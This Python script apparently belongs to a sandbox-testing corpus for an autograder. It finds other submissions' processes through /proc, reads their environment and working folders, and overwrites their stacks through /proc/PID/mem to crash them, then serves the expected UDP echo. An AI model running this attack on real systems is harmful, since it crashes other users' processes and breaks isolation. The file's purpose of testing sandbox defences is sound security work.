# socklab hostile corpus -- attack "poke_victim" (beyond the brief's list)
# Tries: for about 3 s, to find the processes of another submission graded at the same time (same uid; their
#   working folder holds the victim's marker) through /proc, and to crash them by writing zeros over their
#   stack through /proc/PID/mem (allowed for any process of the same uid). Touches no other process. Then it
#   serves the tutorial's UDP echo correctly.
# Defence: each run has a uid of its own (no other run's process is ptrace-accessible) and a PID namespace
#   with its own /proc (no other run's process is even visible) (SPEC.md section 5, "The sandbox").
# Prints "SANDBOX-BROKEN: poke_victim: <pid>" for every process it wrote into; the victim then crashes.
import os
import socket
import sys
import threading
import time

ATTACK = 'poke_victim'
T0 = time.monotonic()


def broken(evidence):
    sys.stdout.write('SANDBOX-BROKEN: %s: %s\n' % (ATTACK, evidence))
    sys.stdout.flush()


def info(text):
    sys.stderr.write('HOSTILE-INFO: %s: %s\n' % (ATTACK, text))
    sys.stderr.flush()


# The victim's marker, built at run time so that this file itself never holds it.
MARK = ('VICTIM-' + 'SECRET-' + '7f3a9c').encode()
SKIP = {'/proc', '/sys', '/dev', '/usr', '/lib', '/lib32', '/lib64', '/libx32', '/bin', '/sbin', '/boot',
        '/etc', '/var/lib', '/var/cache', '/var/log', '/var/backups', '/snap'}
OWN = os.path.realpath(os.getcwd())


def in_git_checkout(path):
    """A folder inside a git work tree (a repository's own copy): never written to, even when it could be."""
    p = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(p, '.git')):
            return True
        parent = os.path.dirname(p)
        if parent == p:
            return False
        p = parent


def proc_seeds():
    """Paths other processes show: their command lines, working folders and HOME/PWD/TMPDIR."""
    seeds, exes = [], []
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            with open('/proc/%s/cmdline' % p, 'rb') as f:
                argv = [a.decode('utf-8', 'replace') for a in f.read().split(b'\0') if a]
        except OSError:
            continue
        if argv and 'socklab' in os.path.basename(argv[0]):
            exes.append(argv[0])
        seeds += [a for a in argv if a.startswith('/')]
        try:
            seeds.append(os.readlink('/proc/%s/cwd' % p))
        except OSError:
            pass
        try:
            with open('/proc/%s/environ' % p, 'rb') as f:
                for e in f.read().split(b'\0'):
                    k, _, v = e.partition(b'=')
                    if k in (b'HOME', b'PWD', b'TMPDIR', b'OLDPWD') and v.startswith(b'/'):
                        seeds.append(v.decode('utf-8', 'replace'))
        except OSError:
            pass
    return seeds, exes


def candidate_dirs():
    seeds, exes = proc_seeds()
    dirs = []
    for s in seeds:
        d = s if os.path.isdir(s) else os.path.dirname(s)
        for x in (d, os.path.dirname(d), os.path.dirname(os.path.dirname(d))):
            if x and x != '/' and x not in dirs:
                dirs.append(x)
    for x in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/home', '/srv', '/opt', '/mnt', '/media', '/root', '/'):
        if x not in dirs:
            dirs.append(x)
    return dirs, exes


def walk(deadline, on_file, max_dirs=200000):
    """Breadth first from the candidates, until the deadline; on_file(path) for each small regular file."""
    dirs, exes = candidate_dirs()
    queue, seen = list(dirs), set()
    i = 0
    while i < len(queue) and time.monotonic() < deadline and len(seen) < max_dirs:
        d = queue[i]
        i += 1
        try:
            real = os.path.realpath(d)
        except OSError:
            continue
        if real in seen or real in SKIP or real == OWN:
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(real))
        except OSError:
            continue
        for e in entries:
            try:
                if e.is_symlink():
                    continue
                if e.is_dir():
                    queue.append(e.path)
                elif e.is_file() and e.stat().st_size <= (1 << 20):
                    if on_file(e.path) is False:
                        return seen, exes
            except OSError:
                pass
    return seen, exes


def holds_mark(path):
    try:
        with open(path, 'rb') as f:
            return MARK in f.read(1 << 20)
    except OSError:
        return False


def victim_pids():
    uid = os.getuid()
    out = []
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            if os.stat('/proc/' + p).st_uid != uid:
                continue
            cwd = os.readlink('/proc/%s/cwd' % p)
        except OSError:
            continue
        if os.path.realpath(cwd) == OWN:
            continue
        if any(holds_mark(os.path.join(cwd, n)) for n in ('server5.py', 'client5.py')):
            out.append((p, cwd))
    return out


def attack():
    hit = set()
    seen = 0
    while time.monotonic() < T0 + 3.0 and len(hit) < 20:
        found = victim_pids()
        seen = max(seen, len(found))
        for p, cwd in found:
            if p in hit:
                continue
            try:
                with open('/proc/%s/maps' % p) as f:
                    stack = [l for l in f if l.rstrip().endswith('[stack]')]
                lo, hi = (int(x, 16) for x in stack[0].split()[0].split('-'))
                with open('/proc/%s/mem' % p, 'r+b', buffering=0) as m:
                    m.seek(lo)
                    m.write(b'\0' * (hi - lo))
                hit.add(p)
                broken('wrote zeros over the stack of process %s (working folder %s)' % (p, cwd))
            except (OSError, IndexError, ValueError) as e:
                info('process %s: %r' % (p, e))
                hit.add(p)
        time.sleep(0.005)
    info('saw %d victim processes at most; wrote into %d' % (seen, len(hit)))


def run_attack(limit_s):
    def guarded():
        try:
            attack()
        except BaseException as e:  # an attack never stops the server
            info('attack stopped: %r' % (e,))
    t = threading.Thread(target=guarded, daemon=True)
    t.start()
    t.join(limit_s)


def serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('127.0.0.1', 9999))
    while True:
        data, addr = s.recvfrom(1024)
        print(data, addr)
        s.sendto(b'Hello,' + data, addr)


if __name__ == '__main__':
    run_attack(4.0)
    serve()
